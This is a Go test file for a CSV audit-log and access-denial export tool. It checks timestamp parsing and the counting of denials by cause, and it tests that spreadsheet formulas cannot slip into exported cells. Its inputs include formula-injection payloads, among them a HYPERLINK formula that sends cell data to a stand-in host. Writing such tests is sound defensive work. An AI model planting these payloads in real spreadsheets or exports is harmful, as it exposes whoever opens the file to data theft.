package main

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"bawn.dev/internal/server"
)

// recorded is a record whose every text is the same.
func recorded(t *testing.T, text, message string) server.AuditLine {
	t.Helper()
	raw, err := json.Marshal(map[string]any{
		"eventTime": "2026-01-01T00:00:00Z", "eventName": text, "eventSource": text, "errorCode": text, "errorMessage": message,
		"eventID": text, "requestID": text, "sourceIPAddress": text, "vpcEndpointId": text, "recipientAccountId": text,
		"userIdentity": map[string]any{"arn": text, "invokedBy": text, "accessKeyId": text, "onBehalfOf": map[string]any{"userId": text}},
		"resources":    []any{map[string]any{"ARN": text}},
	})
	if err != nil {
		t.Fatal(err)
	}
	return server.AuditLine{Person: text, Event: raw}
}

// Whoever may name an object must not run a formula in the auditor's spreadsheet, nor
// begin a cell or a line of his own.
func TestNoCellIsAFormula(t *testing.T) {
	formulas := []string{
		`=1+1`, `+1`, `-1`, `@SUM(A1)`, "\t=1", "\r=1", " =1", `"=1`, `a";=1`, "a\n=1", `=HYPERLINK("http://x/"&A1)`, "＝1", "\u00a0=1", `'=1`, "a,=1", "a;=1",
	}
	for _, f := range append(formulas, hostile...) {
		var out strings.Builder
		w, err := newAuditWriter(&out, "csv")
		if err := errors.Join(err, w.write(recorded(t, f, f)), w.end()); err != nil {
			t.Fatal(err)
		}
		var denials strings.Builder
		causes := map[denial]*denial{}
		if err := counted(causes, []server.AuditLine{recorded(t, f, f)}); err != nil {
			t.Fatal(err)
		}
		for _, d := range causes {
			if err := showDenials(&denials, "csv", []*denial{d}); err != nil {
				t.Fatal(err)
			}
		}
		for _, text := range []string{out.String(), denials.String()} {
			rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
			if err != nil || len(rows) != 2 {
				t.Fatalf("%q makes %d rows, %v", f, len(rows), err)
			}
			for _, cell := range rows[1] {
				if c := strings.TrimLeft(cell, " \t\r\n\u00a0"); strings.HasPrefix(c, "=") || strings.HasPrefix(c, "+") || strings.HasPrefix(c, "-") ||
					strings.HasPrefix(c, "@") || strings.HasPrefix(c, "＝") {
					t.Errorf("%q is the cell %q", f, cell)
				}
				if strings.ContainsAny(cell, "\r\n\t\x00") {
					t.Errorf("%q leaves a control character in %q", f, cell)
				}
			}
			for line := range strings.SplitSeq(strings.TrimSuffix(text, "\r\n"), "\r\n") {
				if !strings.HasPrefix(line, `"`) || !strings.HasSuffix(line, `"`) {
					t.Errorf("%q leaves a cell without quotes in %s", f, line)
				}
			}
		}
	}
}

func TestTimesAsTheyAreTyped(t *testing.T) {
	now := time.Date(2026, 3, 4, 5, 6, 7, 0, time.Local)
	for text, want := range map[string]time.Time{
		"2026-01-31": time.Date(2026, 1, 31, 0, 0, 0, 0, time.Local), "2026-01-31 15:04": time.Date(2026, 1, 31, 15, 4, 0, 0, time.Local),
		"2026-01-31T15:04:05Z": time.Date(2026, 1, 31, 15, 4, 5, 0, time.UTC), "24h": now.Add(-24 * time.Hour), "7d": now.Add(-7 * 24 * time.Hour),
	} {
		var w when
		if err := w.UnmarshalText([]byte(text)); err != nil || !w.begin(now).Equal(want) {
			t.Errorf("%s is %v, %v", text, w.begin(now), err)
		}
	}
	for _, text := range []string{"", "yesterday", "-1h", "0h", "d", "-1d", "2026-02-30", "99999999d"} {
		if err := new(when).UnmarshalText([]byte(text)); err == nil {
			t.Errorf("%q is taken", text)
		}
	}
	var second when
	if err := second.UnmarshalText([]byte("2026-01-31T15:04:05Z")); err != nil {
		t.Fatal(err)
	}
	if end := second.end(now); !end.Equal(time.Date(2026, 1, 31, 15, 4, 5, 999_999_000, time.UTC)) || !new(when).end(now).IsZero() {
		t.Errorf("the second ends at %v", end)
	}
	var day when
	if err := day.UnmarshalText([]byte("2026-01-31")); err != nil {
		t.Fatal(err)
	}
	if end := day.end(now); !end.Equal(time.Date(2026, 2, 1, 0, 0, 0, 0, time.Local).Add(-time.Microsecond)) {
		t.Errorf("the day ends at %v", end)
	}
}

// A credential that is tried in vain is not yet its person's act.
func TestDenialsOfWhoIsNotProven(t *testing.T) {
	tried := recorded(t, "x", "m")
	tried.Event = bytes.Replace(tried.Event, []byte(`"userIdentity":{`), []byte(`"userIdentity":{"type":"Unknown",`), 1)
	causes := map[denial]*denial{}
	if err := counted(causes, []server.AuditLine{tried, recorded(t, "x", "m")}); err != nil {
		t.Fatal(err)
	}
	var who []string
	for _, d := range causes {
		who = append(who, d.Who)
	}
	slices.Sort(who)
	if got := strings.Join(who, "; "); got != "Unknown, with a credential of x; x" {
		t.Errorf("denied are %s", got)
	}
}

// Denials for the same cause are one line, whatever was asked for; others are not.
func TestDenialsAreCountedByCause(t *testing.T) {
	say := func(n int, why string) server.AuditLine {
		return recorded(t, "x", fmt.Sprintf("User: u is not authorized to perform: s3:GetObject on resource: arn:aws:s3:::b/ because %d%s", n, why))
	}
	no, explicit := " because no identity-based policy allows the s3:GetObject action", " with an explicit deny in a service control policy"
	causes := map[denial]*denial{}
	if err := counted(causes, []server.AuditLine{say(1, no), say(2, no), say(3, explicit), say(4, no)}); err != nil {
		t.Fatal(err)
	}
	got := map[string]int{}
	for _, d := range causes {
		got[d.Cause] = d.Count
	}
	if len(got) != 2 || got["no identity-based policy allows the s3:GetObject action"] != 3 || got["with an explicit deny in a service control policy"] != 1 {
		t.Errorf("counted %v", got)
	}
}
